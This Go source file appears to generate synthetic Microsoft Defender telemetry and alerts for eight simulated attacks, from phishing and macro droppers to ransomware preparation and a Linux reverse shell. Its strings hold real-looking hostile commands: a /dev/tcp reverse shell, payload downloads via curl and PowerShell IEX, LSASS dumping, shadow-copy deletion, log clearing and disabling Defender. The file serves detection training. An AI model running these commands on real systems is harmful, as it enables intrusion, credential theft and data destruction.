package simulate

import "fmt"

var attacks = []attack{
	{"phishing", phishing},
	{"macro", macro},
	{"credential-dumping", credentialDumping},
	{"lateral-movement", lateralMovement},
	{"ransomware-preparation", ransomware},
	{"mailbox-rule", mailboxRule},
	{"consent-grant", consentGrant},
	{"reverse-shell", reverseShell},
}

const endpoint, office365, cloudApps = "Microsoft Defender for Endpoint", "Microsoft Defender for Office 365", "Microsoft Defender for Cloud Apps"

// lure is a mail from outside to one person.
func (s *story) lure(to *user, subject, host string) *mail {
	m := &mail{to: to, subject: subject, senderDomain: host, sender: "notice@" + host, senderName: "Document Service", senderIP: s.attacker(), verdict: "Delivered", cluster: int64(s.t.rng.Uint32())}
	s.t.identify(m)
	return m
}

// deliver tells of the mail, its links and its attachments.
func (s *story) deliver(m *mail) {
	s.then(2*second, func() { m.at = s.now() / second * second; s.t.mailEvent(m) })
	for i := range m.urls {
		s.then(second, func() { s.t.mailURL(m, i) })
	}
	for i := range m.attachments {
		s.then(second, func() { s.t.attachment(m, i) })
	}
}

// phishing: a link in a mail is clicked, a password entered; the mail is removed later and the account used from abroad.
func phishing(s *story) {
	t, d := s.t, s.victim()
	host := "login-" + pick(t.rng, words) + "-verify.example"
	m := s.lure(d.owner, "Action required: your password expires today", host)
	m.urls = []string{"https://" + host + "/auth/" + randomHex(t.rng, 10) + "?e=" + d.owner.upn, "https://www.halden.example/imprint"}
	s.deliver(m)
	ip := s.attacker()
	s.then(20*second, func() { t.click(m, 0, s.now(), "ClickAllowed", "185.64.10.7") })
	browser := s.run(2*second, d, nil, "msedge.exe", `"msedge.exe" --single-argument `+m.urls[0])
	s.event(second, browser, deviceEvent{action: "BrowserLaunchedToOpenUrl", remoteURL: m.urls[0]})
	s.connects(2*second, browser, connection{ip: ip, port: 443, url: host, remoteType: "Public"})
	for range 3 {
		s.then(10*second, func() {
			t.identityLogon(s.now(), identityLogon{action: "LogonFailed", failure: "StrongAuthenticationRequired", app: "Microsoft 365", kind: "OAuth2:Authorize", user: d.owner, ip: ip, location: "NL", isp: "Anonymous Hosting BV"})
		})
	}
	s.then(10*second, func() {
		t.identityLogon(s.now(), identityLogon{action: "LogonSuccess", app: "Microsoft 365", kind: "OAuth2:Authorize", user: d.owner, ip: ip, location: "NL", isp: "Anonymous Hosting BV"})
	})
	s.then(15*second, func() {
		m.threat, m.method = "Phish", `{"Phish":["URL detonation reputation"]}`
		t.removed(m, s.now())
	})
	s.raise(10*second, func() *alert {
		return &alert{title: "A potentially malicious URL click was detected", category: "InitialAccess", severity: "High", service: office365, source: office365, techniques: techniques("Phishing (T1566)", "Spearphishing Link (T1566.002)"),
			entities: []entity{{kind: "MailMessage", role: "Related", mail: m}, person(nil, d.owner), {kind: "Url", role: "Related", url: m.urls[0]}, {kind: "Ip", role: "Related", ip: ip}, {kind: "Mailbox", role: "Impacted", user: d.owner}, machine(d)}}
	})
}

// macro: a document from a mail starts PowerShell, which fetches a program and lets it start with the user's session.
func macro(s *story) {
	t, d := s.t, s.victim()
	host := "cdn-" + pick(t.rng, words) + ".example"
	m := s.lure(d.owner, "Invoice "+fmt.Sprint(10_000+t.rng.IntN(89_999))+" overdue", "billing-"+pick(t.rng, words)+".example")
	document := t.newContent(file{action: "FileCreated", name: "Invoice_" + randomHex(t.rng, 6) + ".docm", folder: `C:\Users\` + d.owner.name + `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\` + randomHex(t.rng, 8)})
	m.attachments = []file{document}
	s.deliver(m)
	mailer := s.run(10*second, d, nil, "OUTLOOK.EXE", `"OUTLOOK.EXE" `)
	s.writes(3*second, mailer, document)
	word := s.run(4*second, d, mailer, "WINWORD.EXE", `"WINWORD.EXE" /n "`+document.folder+`\`+document.name+`" /o ""`)
	shell := s.run(6*second, d, word, "powershell.exe", `powershell.exe -nop -w hidden -ep bypass -enc {q}{q}{q}==`)
	s.loads(second, shell, "System.Management.Automation.dll")
	s.event(second, shell, deviceEvent{action: "AmsiScriptDetection", extra: `{"Description":"Trojan:PowerShell/Powerfetch.A","ScriptContent":"IEX (New-Object Net.WebClient).DownloadString('https://` + host + `/a')"}`})
	ip := s.attacker()
	s.connects(2*second, shell, connection{ip: ip, port: 443, url: "https://" + host + "/a", remoteType: "Public"})
	updater := t.world.programs.byName[windows]["updater.exe"].images[d.image]
	drop := file{action: "FileCreated", name: "updater.exe", folder: `C:\ProgramData\Intel`, sha1: updater.sha1, sha256: updater.sha256, md5: updater.md5, size: updater.size, origin: "https://" + host + "/a/updater.exe", originIP: ip}
	s.writes(3*second, shell, drop)
	run := registryChange{"RegistryValueSet", `HKEY_CURRENT_USER\` + d.owner.sid + `\Software\Microsoft\Windows\CurrentVersion\Run`, "IntelUpdate", "String", `C:\ProgramData\Intel\updater.exe -s`, ""}
	s.sets(2*second, shell, run)
	implant := s.run(5*second, d, shell, "updater.exe", `"C:\ProgramData\Intel\updater.exe" -s`)
	s.connects(4*second, implant, connection{ip: ip, port: 8443, url: host, remoteType: "Public"})
	s.run(5*second, d, implant, "whoami.exe", "whoami /all")
	s.run(3*second, d, implant, "nltest.exe", "nltest /domain_trusts")
	s.raise(15*second, func() *alert {
		return &alert{title: "Suspicious PowerShell command line", category: "Execution", severity: "Medium", service: endpoint, source: "EDR", group: d.group, techniques: techniques("PowerShell (T1059.001)", "Malicious File (T1204.002)", "Registry Run Keys / Startup Folder (T1547.001)"),
			entities: []entity{machine(d), person(d, d.owner), word.entity("Related"), shell.entity("Impacted"), implant.entity("Impacted"), {kind: "File", role: "Related", device: d, file: drop}, {kind: "File", role: "Related", device: d, file: document}, {kind: "MailMessage", role: "Related", mail: m}, {kind: "RegistryKey", role: "Related", device: d, registry: run}, {kind: "Ip", role: "Related", ip: ip}, {kind: "Url", role: "Related", url: "https://" + host + "/a"}}}
	})
}

// credentialDumping: an administrator's session is abused to dump the memory of LSASS.
func credentialDumping(s *story) {
	t, d := s.t, s.victim()
	shell := s.run(3*second, d, nil, "cmd.exe", `"cmd.exe" /k`)
	image := t.world.programs.byName[windows]["procdump64.exe"].images[d.image]
	tool := file{action: "FileCreated", name: "procdump64.exe", folder: `C:\Users\Public`, sha1: image.sha1, sha256: image.sha256, md5: image.md5, size: image.size}
	s.writes(3*second, shell, tool)
	dumper := s.runAs(5*second, d, shell, "procdump64.exe", `procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\{x}.dmp`, true)
	s.loads(second, dumper, "dbgcore.dll")
	s.then(second, func() {
		t.deviceEvent(d, t.clock(d), &dumper.process, deviceEvent{action: "OpenProcessApiCall", target: d.running("lsass.exe", nil), extra: `{"DesiredAccess":2097151}`})
	})
	dump := t.newContent(file{action: "FileCreated", name: randomHex(t.rng, 8) + ".dmp", folder: `C:\Users\Public`})
	s.writes(2*second, dumper, dump)
	s.run(6*second, d, shell, "rundll32.exe", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {n} C:\Windows\Temp\{x}.bin full`)
	s.event(4*second, dumper, deviceEvent{action: "AntivirusDetection", file: dump, extra: `{"ThreatName":"Behavior:Win32/LsassDump.A","WasRemediated":true,"WasExecutingWhileDetected":true,"Action":"Block"}`})
	s.raise(12*second, func() *alert {
		return &alert{title: "Sensitive credential memory read", category: "CredentialAccess", severity: "High", service: endpoint, source: "EDR", group: d.group, techniques: techniques("OS Credential Dumping (T1003)", "LSASS Memory (T1003.001)"),
			entities: []entity{machine(d), person(d, d.owner), dumper.entity("Impacted"), shell.entity("Related"), {kind: "File", role: "Impacted", device: d, file: dump}, {kind: "File", role: "Related", device: d, file: tool}}}
	})
}

// lateralMovement: the directory is searched, then PsExec runs a shell on a server.
func lateralMovement(s *story) {
	t, d := s.t, s.victim()
	server := s.on(pick(t.rng, t.world.servers))
	shell := s.run(2*second, d, nil, "cmd.exe", `"cmd.exe"`)
	s.run(4*second, d, shell, "net.exe", `net group "Domain Admins" /domain`)
	s.then(2*second, func() {
		t.query(s.now(), d.owner, d, "AllDomainAdmins", "(&(objectClass=group)(sAMAccountName=Domain Admins))")
	})
	psexec := s.run(6*second, d, shell, "PsExec64.exe", `PsExec64.exe \\`+server.short+` -accepteula -s cmd.exe /c whoami`)
	s.connects(second, psexec, connection{ip: server.ip, port: 445, remoteType: "Private"})
	s.then(second, func() {
		t.identityLogon(s.now(), identityLogon{action: "LogonSuccess", app: "Active Directory", kind: "Resource access", protocol: "Ntlm", user: d.owner, ip: d.ip, device: d, destination: t.world.controllers[0]})
	})
	s.then(second, func() {
		t.logonEvent(server, t.clock(server), server.running("lsass.exe", nil), logon{action: "LogonSuccess", kind: "Network", protocol: "NTLM", account: &account{name: d.owner.name, domain: d.owner.domain, sid: d.owner.sid}, ip: d.ip, device: d.short, port: 49152 + t.rng.Int64N(16000), admin: true, id: t.rng.Int64N(1e8)})
	})
	image := t.world.programs.byName[windows]["PSEXESVC.exe"].images[server.image]
	service := file{action: "FileCreated", name: "PSEXESVC.exe", folder: `C:\Windows`, sha1: image.sha1, sha256: image.sha256, md5: image.md5, size: image.size, share: `\\` + server.short + `\ADMIN$`, requestIP: d.ip, requester: &account{name: d.owner.name, domain: d.owner.domain, sid: d.owner.sid}}
	s.then(second, func() { t.file(server, t.clock(server), server.running("smss.exe", nil), service) })
	helper := s.runAs(2*second, server, nil, "PSEXESVC.exe", `C:\WINDOWS\PSEXESVC.exe`, true)
	s.event(second, helper, deviceEvent{action: "ServiceInstalled", extra: `{"ServiceName":"PSEXESVC","ServiceStartType":3,"ServiceAccount":"LocalSystem"}`, file: service})
	remote := s.runAs(2*second, server, helper, "cmd.exe", `"cmd.exe" /c whoami`, true)
	s.runAs(2*second, server, remote, "whoami.exe", "whoami", true)
	s.raise(12*second, func() *alert {
		return &alert{title: "Suspicious remote service execution by PsExec", category: "LateralMovement", severity: "High", service: endpoint, source: "EDR", group: server.group, techniques: techniques("SMB/Windows Admin Shares (T1021.002)", "Service Execution (T1569.002)"),
			entities: []entity{machine(server), machine(d), person(server, d.owner), psexec.entity("Related"), helper.entity("Impacted"), remote.entity("Impacted"), {kind: "File", role: "Related", device: server, file: service}, {kind: "Ip", role: "Related", ip: d.ip}}}
	})
}

// ransomware: backups and traces are removed and files begin to be encrypted.
func ransomware(s *story) {
	t, d := s.t, s.victim()
	shell := s.runAs(2*second, d, nil, "cmd.exe", `cmd.exe /c C:\Windows\Temp\{x}.bat`, true)
	shadow := s.runAs(3*second, d, shell, "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", true)
	s.runAs(2*second, d, shell, "bcdedit.exe", "bcdedit /set {default} recoveryenabled no", true)
	s.runAs(2*second, d, shell, "bcdedit.exe", "bcdedit /set {default} bootstatuspolicy ignoreallfailures", true)
	s.runAs(2*second, d, shell, "wbadmin.exe", "wbadmin delete catalog -quiet", true)
	s.runAs(2*second, d, shell, "wevtutil.exe", "wevtutil.exe cl Security", true)
	s.event(second, shell, deviceEvent{action: "SecurityLogCleared", extra: `{}`})
	s.runAs(2*second, d, shell, "net.exe", `net stop "SQLSERVERAGENT" /y`, true)
	change := registryChange{"RegistryValueSet", `HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender`, "DisableAntiSpyware", "Dword", "1", "0"}
	s.sets(2*second, shell, change)
	encryptor := s.runAs(3*second, d, shell, "enc.exe", `C:\Windows\Temp\enc.exe --path C:\Users --ext .h4ld -t 8`, true)
	for range 6 {
		f := t.newContent(file{action: "FileRenamed", folder: `C:\Users\` + d.owner.name + `\Documents`, previousName: t.text("{f}.xlsx", d)})
		f.name, f.previousDir = f.previousName+".h4ld", f.folder
		s.writes(second, encryptor, f)
	}
	note := t.newContent(file{action: "FileCreated", folder: `C:\Users\Public\Desktop`, name: "README_RESTORE.txt"})
	s.writes(second, encryptor, note)
	s.raise(8*second, func() *alert {
		return &alert{title: "Possible ransomware activity: system recovery was turned off", category: "Impact", severity: "High", service: endpoint, source: "EDR", group: d.group, techniques: techniques("Inhibit System Recovery (T1490)", "Data Encrypted for Impact (T1486)", "Clear Windows Event Logs (T1070.001)"),
			entities: []entity{machine(d), person(d, d.owner), shell.entity("Related"), shadow.entity("Impacted"), encryptor.entity("Impacted"), {kind: "File", role: "Related", device: d, file: note}, {kind: "RegistryKey", role: "Related", device: d, registry: change}}}
	})
}

// mailboxRule: an account that was taken over forwards mail with certain words to the outside and reads much of it.
func mailboxRule(s *story) {
	t := s.t
	u := pick(t.rng, t.world.users)
	ip := s.attacker()
	outside := "collect." + pick(t.rng, words) + "@mailbox-" + pick(t.rng, words) + ".example"
	from := func(a activity) activity {
		a.user, a.ip, a.country, a.city, a.isp, a.anonymous = u, ip, "NL", "amsterdam", "Anonymous Hosting BV", true
		return a
	}
	s.then(3*second, func() {
		t.identityLogon(s.now(), identityLogon{action: "LogonSuccess", app: "Microsoft 365", kind: "OAuth2:Authorize", user: u, ip: ip, location: "NL", isp: "Anonymous Hosting BV"})
	})
	for range 4 {
		s.then(4*second, func() {
			t.cloudApp(s.now(), from(activity{app: exchange, action: "MailItemsAccessed", kind: "Run", object: "MailItemsAccessed", objectType: "Task", parameters: []pair{{"MailAccessType", "Sync"}, {"IsThrottled", "False"}}}))
		})
	}
	s.then(8*second, func() {
		t.cloudApp(s.now(), from(activity{app: exchange, action: "New-InboxRule", kind: "Create", object: "..", objectType: "Inbox rule", id: u.upn + `\..`, parameters: []pair{{"Name", ".."}, {"SubjectOrBodyContainsWords", "invoice;payment;iban;wire"}, {"ForwardTo", outside}, {"MarkAsRead", "True"}, {"DeleteMessage", "True"}, {"StopProcessingRules", "True"}}}))
	})
	s.then(6*second, func() {
		t.cloudApp(s.now(), from(activity{app: exchange, action: "Set-Mailbox", kind: "Edit", object: u.upn, objectType: "Mailbox", id: u.upn, parameters: []pair{{"ForwardingSmtpAddress", "smtp:" + outside}, {"DeliverToMailboxAndForward", "True"}}}))
	})
	s.raise(10*second, func() *alert {
		return &alert{title: "Suspicious inbox manipulation rule", category: "Exfiltration", severity: "Medium", service: cloudApps, source: cloudApps, techniques: techniques("Email Forwarding Rule (T1114.003)", "Email Hiding Rules (T1564.008)", "Valid Accounts (T1078)"),
			entities: []entity{person(nil, u), {kind: "Ip", role: "Related", ip: ip}, {kind: "CloudApplication", role: "Related", app: exchange}, {kind: "Mailbox", role: "Impacted", user: u}}}
	})
}

// consentGrant: a person lets a foreign application read mail and files; it does so at once.
func consentGrant(s *story) {
	t, d := s.t, s.victim()
	u, ip, app := d.owner, s.attacker(), randomGUID(t.rng)
	link := "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=" + app + "&scope=Mail.Read%20Files.ReadWrite.All%20offline_access"
	m := s.lure(u, "Shared document: quarterly bonus plan", "share-"+pick(t.rng, words)+".example")
	m.urls = []string{link}
	s.deliver(m)
	s.then(10*second, func() { t.click(m, 0, s.now(), "ClickAllowed", "185.64.10.7") })
	office := activity{app: m365, action: "Consent to application.", kind: "Edit", object: "Bonus Viewer", objectType: "Service principal", id: app, parameters: []pair{{"ConsentContext.IsAdminConsent", "False"}, {"ConsentAction.Permissions", "Mail.Read Files.ReadWrite.All offline_access"}}}.by(u, false)
	s.then(8*second, func() { t.cloudApp(s.now(), office) })
	s.then(second, func() {
		t.cloudApp(s.now(), activity{app: m365, action: "Add OAuth2PermissionGrant.", kind: "Edit", object: "Bonus Viewer", objectType: "Service principal", id: app, parameters: []pair{{"DelegatedPermissionGrant.Scope", "Mail.Read Files.ReadWrite.All offline_access"}}}.by(u, false))
	})
	for range 5 {
		s.then(4*second, func() {
			name := t.text("{f}.xlsx", d)
			a := activity{app: oneDrive, action: "FileDownloaded", kind: "Download", object: name, objectType: "File", id: "https://halden-my.sharepoint.example/personal/" + u.name + "/Documents/" + name, parameters: []pair{{"ApplicationId", app}}}
			a.user, a.ip, a.country, a.city, a.isp, a.anonymous = u, ip, "NL", "amsterdam", "Anonymous Hosting BV", true
			t.cloudApp(s.now(), a)
		})
	}
	s.raise(10*second, func() *alert {
		return &alert{title: "Suspicious OAuth app was granted access to mail and files", category: "Persistence", severity: "High", service: cloudApps, source: "App Governance", techniques: techniques("Steal Application Access Token (T1528)", "Additional Cloud Credentials (T1098.001)"),
			entities: []entity{person(nil, u), {kind: "OAuthApplication", role: "Impacted", oauth: app, app: m365}, {kind: "Ip", role: "Related", ip: ip}, {kind: "MailMessage", role: "Related", mail: m}, {kind: "Url", role: "Related", url: link}}}
	})
}

// reverseShell: a web server on Linux is made to call back; the intruder settles in with cron.
func reverseShell(s *story) {
	t := s.t
	d := s.on(pick(t.rng, t.world.linux))
	ip := s.attacker()
	shell := s.run(2*second, d, nil, "bash", "/bin/bash -c bash -i >& /dev/tcp/"+ip+"/4444 0>&1")
	s.connects(second, shell, connection{ip: ip, port: 4444, remoteType: "Public"})
	s.run(3*second, d, shell, "python3.12", `python3 -c import pty; pty.spawn("/bin/bash")`)
	fetch := s.run(4*second, d, shell, "curl", "curl -fsSL http://"+ip+"/x -o /tmp/.x/kworkerd")
	s.connects(second, fetch, connection{ip: ip, port: 80, url: "http://" + ip + "/x", remoteType: "Public"})
	image := t.world.programs.byName[linux]["kworkerd"].images[d.image]
	drop := file{action: "FileCreated", name: "kworkerd", folder: "/tmp/.x", sha1: image.sha1, sha256: image.sha256, md5: image.md5, size: image.size}
	s.writes(second, fetch, drop)
	s.run(2*second, d, shell, "chmod", "chmod +x /tmp/.x/kworkerd")
	implant := s.run(3*second, d, shell, "kworkerd", "/tmp/.x/kworkerd -o "+ip+":3333 -k --tls")
	s.connects(2*second, implant, connection{ip: ip, port: 3333, remoteType: "Public"})
	cron := s.run(3*second, d, shell, "crontab", "crontab /tmp/.x/c")
	s.writes(second, cron, t.newContent(file{action: "FileModified", name: "www-data", folder: "/var/spool/cron/crontabs"}))
	s.raise(10*second, func() *alert {
		return &alert{title: "Suspicious shell process with outbound connection", category: "Execution", severity: "High", service: endpoint, source: "EDR", group: d.group, techniques: techniques("Unix Shell (T1059.004)", "Ingress Tool Transfer (T1105)", "Cron (T1053.003)"),
			entities: []entity{machine(d), shell.entity("Impacted"), implant.entity("Impacted"), {kind: "File", role: "Impacted", device: d, file: drop}, {kind: "Ip", role: "Related", ip: ip}}}
	})
}
